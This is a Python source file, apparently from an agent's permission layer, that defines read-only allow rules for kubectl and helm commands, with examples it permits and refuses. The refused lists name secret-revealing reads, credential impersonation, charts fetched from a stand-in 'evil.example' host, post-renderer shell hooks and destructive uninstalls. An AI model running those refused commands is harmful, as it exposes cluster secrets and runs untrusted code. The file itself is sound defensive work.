"""Read-only kubectl and helm: lists, states and logs.

A pod in full, a config map or a secret shows what a table does not: only kinds without an environment are shown whole.
A chart by the name of a repository's may be a directory here, and helm follows links inside it, so a chart is always
judged by all that lies below it.
"""

import re

from mtbot.policy.allow_rule import AllowRule, Needs
from mtbot.policy.grammar import Grammar, Read, grammar
from mtbot.policy.readonly_entry import NO_OPTIONS, entry, flat

_NETWORK = Needs(network=True)

_BARE_KINDS = """service svc ingress ing node no namespace ns event ev persistentvolumeclaim pvc persistentvolume pv storageclass sc endpoint
ep endpointslice horizontalpodautoscaler hpa networkpolicy netpol poddisruptionbudget pdb resourcequota quota limitrange limits certificate
managedcertificate gateway httproute"""

_KINDS_WITH_ENVIRONMENT = """pod po deployment deploy replicaset rs statefulset sts daemonset ds job cronjob cj serviceaccount sa configmap cm
replicationcontroller rc role rolebinding clusterrole clusterrolebinding customresourcedefinition crd virtualservice all componentstatus cs
priorityclass pc lease"""


def _kinds(names: str) -> str:
    """A shape for `KIND`, `KIND,KIND` and `KIND/NAME` over singular and plural names."""
    one = f"(?:{'|'.join(names.split())})(?:e?s)?(?:[.][a-z0-9.]+)?"
    return f"({one}(?:,{one})*|{one}/[A-Za-z0-9.-]+)"


_BARE_KIND_LIST = _kinds(_BARE_KINDS)

_KIND_LIST = _kinds(f"{_BARE_KINDS} {_KINDS_WITH_ENVIRONMENT}")

_WITHOUT_SPEC = re.compile(
    r"(?:wide|name|(?:jsonpath|go-template)=['\"]?(?:\{\}|(?:[A-Za-z ]|\\n|\\t|\{(?:range |end)?[.@]?(?:items\[\*\])?(?:[.](?:metadata|status)[A-Za-z.*\[\]0-9]*)?\})*)['\"]?)"
)

_CUBE = grammar("-n:name --namespace:name --context:item --cluster:item --request-timeout:name -v:([0-5])")
"""From -v 6 on requests are shown, and with them what they carry."""

_CUBE_OPTIONS = "-n:name --namespace:name --context:item --cluster:item --request-timeout:name -A --all-namespaces?(true|false) -l:words --selector:words --field-selector:words --no-headers?(true|false) --show-labels --sort-by:format -w --watch --watch-only --chunk-size:num --ignore-not-found --help -h"


def _shows_no_spec(read: Read) -> bool:
    """A pod in full shows the values of its environment; a table, or a path into metadata and status, does not."""
    return all(_WITHOUT_SPEC.fullmatch(value) is not None for name, value in read.values if name in ("-o", "--output"))


def _cube(subcommands: str, rest: Grammar, permits: tuple[str, ...], refuses: tuple[str, ...]) -> tuple[AllowRule, ...]:
    leads = " / ".join(f"kubectl {subcommand}" for subcommand in subcommands.split(" / "))
    return entry(leads, rest, before=_CUBE, needs=_NETWORK, permits=permits, refuses=refuses)


_KUBECTL = flat(
    (
        _cube(
            "get",
            grammar(
                f"{_CUBE_OPTIONS} -o:format --output:format -L:words --show-kind",
                f"{_KIND_LIST} ([A-Za-z0-9.-]+)*",
                also=_shows_no_spec,
            ),
            (
                "kubectl get pods",
                "kubectl get pods -A -o wide",
                "kubectl -n kube-system get deploy,svc",
                "kubectl get pods --selector=app=nginx",
                "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'",
            ),
            (
                "kubectl get secret",
                "kubectl get secrets -o yaml",
                "kubectl get pods,secrets",
                "kubectl get secret/x",
                "kubectl get pods -o yaml",
                "kubectl get all -o json",
                "kubectl get --raw /api",
                "kubectl get -f x",
                "kubectl --kubeconfig x get pods",
                "kubectl -s http://x get pods",
                "kubectl get pods -o 'jsonpath={.items[*].spec}'",
                "kubectl get pods --template=x",
                "kubectl --token x get pods",
                "kubectl get pods --as=admin",
            ),
        ),
        _cube(
            "get",
            grammar(
                f"{_CUBE_OPTIONS} -o:(json|yaml|wide|name) --output:(json|yaml|wide|name)",
                f"{_BARE_KIND_LIST} ([A-Za-z0-9.-]+)*",
            ),
            ("kubectl get nodes -o json", "kubectl get ingress x -o yaml"),
            (
                "kubectl get deployments -o yaml",
                "kubectl get nodes -o go-template-file=x",
                "kubectl get configmap x -o yaml",
            ),
        ),
        _cube(
            "describe",
            grammar(f"{_CUBE_OPTIONS} --show-events", f"{_BARE_KIND_LIST} ([A-Za-z0-9.-]+)*"),
            ("kubectl describe node n1", "kubectl describe svc web -n prod"),
            (
                "kubectl describe secret x",
                "kubectl describe pod x",
                "kubectl describe -f x",
                "kubectl describe deploy x",
            ),
        ),
        _cube(
            "logs",
            grammar(
                f"{_CUBE_OPTIONS} -fp -c:name --tail:num --since:when --since-time:when --container:name --all-containers?(true|false) --timestamps?(true|false) --previous --follow --prefix --limit-bytes:num --max-log-requests:num",
                "item*",
            ),
            ("kubectl logs web --tail=100", "kubectl logs -f deploy/web -c app", "kubectl logs -l app=nginx"),
            ("kubectl logs --x web", "kubectl logs web --pod-running-timeout=x --kubeconfig=y"),
        ),
        _cube(
            "top pod / top pods / top node / top nodes",
            grammar(f"{_CUBE_OPTIONS} --containers --sum", "item?"),
            ("kubectl top pods", "kubectl top nodes"),
            ("kubectl top x", "kubectl top pods --x"),
        ),
        _cube(
            "rollout status / rollout history",
            grammar(f"{_CUBE_OPTIONS} --timeout:name --revision:num", "item item?"),
            ("kubectl rollout status deployment/web",),
            ("kubectl rollout undo deploy/web", "kubectl rollout restart deploy/web", "kubectl rollout status -f x"),
        ),
        _cube(
            "wait",
            grammar(f"{_CUBE_OPTIONS} --for:words --timeout:name --all", "item*"),
            ("kubectl wait --for=condition=Ready pod/nginx",),
            ("kubectl wait -f x --for=delete",),
        ),
        _cube(
            "events / api-resources / api-versions / cluster-info / version",
            grammar(
                f"{_CUBE_OPTIONS} -o:(json|yaml|wide|name) --client?(true|false) --namespaced?(true|false) --types:words --for:words --api-group:words --verbs:words"
            ),
            ("kubectl version --client", "kubectl api-resources", "kubectl cluster-info", "kubectl events"),
            (
                "kubectl cluster-info dump",
                "kubectl cluster-info --output-directory=x",
                "kubectl version --kubeconfig x",
            ),
        ),
        _cube(
            "explain / auth can-i / auth whoami / completion",
            grammar(f"{_CUBE_OPTIONS} --recursive --list --api-version:item", "item*"),
            ("kubectl explain pods.spec", "kubectl auth can-i get pods", "kubectl auth whoami"),
            ("kubectl auth reconcile x", "kubectl auth can-i --as=x get pods", "kubectl explain --x"),
        ),
        _cube(
            "config current-context / config get-contexts / config get-clusters / config get-users",
            grammar("-o:name --no-headers", "item?"),
            ("kubectl config current-context", "kubectl config get-contexts"),
            (
                "kubectl config view --raw",
                "kubectl config view",
                "kubectl config use-context x",
                "kubectl config set a b",
            ),
        ),
        entry(
            "kubectl --version / kubectl --help / kubectl -h",
            NO_OPTIONS,
            permits=("kubectl --help",),
            refuses=("kubectl --help get x",),
        ),
    )
)

_HELM_BEFORE = grammar("-n:name --namespace:name --debug --kube-context:item")

_HELM_OPTIONS = (
    "-n:name --namespace:name -o:(json|yaml|table) --output:(json|yaml|table) --kube-context:item --debug --help -h"
)


def _helm(subcommands: str, rest: Grammar, permits: tuple[str, ...], refuses: tuple[str, ...]) -> tuple[AllowRule, ...]:
    leads = " / ".join(f"helm {subcommand}" for subcommand in subcommands.split(" / "))
    return entry(leads, rest, before=_HELM_BEFORE, needs=_NETWORK, permits=permits, refuses=refuses)


_HELM = flat(
    (
        _helm(
            "lint / verify",
            grammar(f"{_HELM_OPTIONS} --strict --quiet --with-subcharts --set:words --set-string:words", "chart"),
            ("helm lint ./chart --strict", "helm lint ./chart --set key=value", "helm verify a.tgz"),
            (
                "helm lint --values x ./chart",
                "helm lint --set-file a=b ./c",
                "helm lint oci://evil.example/c",
                "helm verify --keyring x a.tgz",
            ),
        ),
        _helm(
            "list / ls",
            grammar(
                f"{_HELM_OPTIONS} -aAqdr -l:words -f:text --all --all-namespaces --short --date --reverse --deployed --failed --pending --superseded --uninstalled --uninstalling --filter:text --max:num --offset:num --selector:words --time-format:format"
            ),
            ("helm list -A", "helm -n prod ls", "helm list --filter nginx -o json"),
            ("helm list --kubeconfig x", "helm list --x", "helm list --kube-token x", "helm --registry-config x list"),
        ),
        _helm(
            "status / history",
            grammar(f"{_HELM_OPTIONS} --revision:num --max:num --show-desc", "name"),
            ("helm status web", "helm history web --max 10"),
            ("helm status", "helm status --x web", "helm get values web", "helm get all web", "helm rollback web"),
        ),
        _helm(
            "get notes",
            grammar(f"{_HELM_OPTIONS} --revision:num", "name"),
            ("helm get notes web", "helm -n prod get notes web"),
            (
                "helm get values web",
                "helm get manifest web",
                "helm get hooks web",
                "helm get all web",
                "helm get notes --x web",
            ),
        ),
        _helm(
            "repo list / repo ls / plugin list / plugin ls / version / help",
            grammar(f"{_HELM_OPTIONS} --short --client", "name?"),
            ("helm repo list", "helm version", "helm plugin list", "helm help install"),
            ("helm env", "helm repo add a b", "helm plugin install x", "helm version --template=x"),
        ),
        _helm(
            "search repo / search hub",
            grammar(
                f"{_HELM_OPTIONS} -lr --versions --devel --max-col-width:num --regexp --version:format --list-repo-url",
                "text*",
            ),
            ("helm search repo nginx --versions", "helm search hub nginx"),
            (
                "helm search hub --endpoint http://x y",
                "helm search repo --repository-config=x y",
                "helm search repo --x y",
            ),
        ),
        _helm(
            "show chart / show readme / show values / show all / show crds / inspect chart / inspect all / inspect values",
            grammar(f"{_HELM_OPTIONS} --version:format --devel", "chart"),
            ("helm show readme nginx/nginx", "helm show values a/b --version 1.2.3", "helm show all ./chart"),
            (
                "helm show values https://x/y",
                "helm show chart a/b --repo http://x",
                "helm show chart --ca-file x a/b",
                "helm show chart oci://evil.example/c",
            ),
        ),
        _helm(
            "template",
            grammar(
                f"{_HELM_OPTIONS} --version:format --devel --include-crds --skip-crds --skip-tests --no-hooks --is-upgrade --kube-version:format"
                " -f:file --values:file --set:words --set-string:words -s:item --show-only:item -a:item --api-versions:item --name-template:name",
                "name chart",
            ),
            (
                "helm template web nginx/nginx",
                "helm template web ./chart --values values.yaml",
                "helm template web nginx/nginx --version 1.2.3 --namespace prod --include-crds",
            ),
            (
                "helm template web ./chart --output-dir out",
                "helm template web ./chart --post-renderer sh",
                "helm template web ./chart --validate",
                "helm template web ./chart --dry-run=server",
                "helm template web ./chart --set-file a=/etc/x",
                "helm template web ./chart -f https://evil.example/v.yaml",
                "helm template web https://evil.example/c.tgz",
                "helm template web oci://evil.example/c",
                "helm template web c --repo https://evil.example",
                "helm template web ./chart --enable-dns",
                "helm template web ./chart --dependency-update",
                "helm template web ./chart --kubeconfig x",
            ),
        ),
        _helm(
            # a dry run on the client renders the chart, with the cluster's version and none of its contents
            "install",
            grammar(
                f"{_HELM_OPTIONS} --dry-run?(client) --version:format --devel --skip-crds --no-hooks -f:file --values:file --set:words --set-string:words",
                "name chart",
                requires="--dry-run",
            ),
            ("helm install web nginx/nginx --dry-run", "helm -n prod install web ./chart --dry-run=client --set a=b"),
            (
                "helm install web nginx/nginx",
                "helm install web nginx/nginx --dry-run=server",
                "helm install web nginx/nginx --dry-run=none",
                "helm install web nginx/nginx --dry-run=false",
                "helm install web nginx/nginx --dry-run false",
                "helm install web ./c --dry-run --dry-run=none",
                "helm install web ./c --dry-run --post-renderer sh",
                "helm install web https://evil.example/c.tgz --dry-run",
                "helm upgrade web ./c --dry-run",
                "helm install web ./c --dry-run --create-namespace",
            ),
        ),
        _helm(
            "uninstall / delete",
            grammar(f"{_HELM_OPTIONS} --dry-run", "name", requires="--dry-run"),
            ("helm uninstall web --dry-run", "helm -n prod delete web --dry-run"),
            (
                "helm uninstall web",
                "helm uninstall web --dry-run=false",
                "helm uninstall --dry-run",
                "helm uninstall web --dry-run false",
            ),
        ),
        _helm(
            "dependency list / dependency ls / dep list / dep ls",
            grammar(_HELM_OPTIONS, "chart?"),
            ("helm dependency list ./chart", "helm dep ls"),
            ("helm dependency update ./chart", "helm dep build x"),
        ),
        _helm(
            "completion",
            grammar("--no-descriptions", "(bash|zsh|fish|powershell)"),
            ("helm completion bash",),
            ("helm completion x",),
        ),
        entry(
            "helm --version / helm -h / helm --help",
            NO_OPTIONS,
            permits=("helm --help",),
            refuses=("helm --help list x",),
        ),
    )
)

CLUSTER: tuple[AllowRule, ...] = (*_KUBECTL, *_HELM)
